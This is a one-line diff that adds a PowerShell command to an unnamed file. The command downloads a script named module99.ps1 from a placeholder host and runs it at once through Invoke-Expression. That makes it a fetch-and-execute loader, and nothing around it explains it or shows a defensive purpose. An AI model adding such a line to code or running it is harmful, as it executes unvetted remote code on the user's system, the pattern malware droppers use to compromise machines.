@@ -1,0 +1,1 @@
+(New-Object Net.WebClient).DownloadString('http://files-mirror.test/module99.ps1') | Invoke-Expression
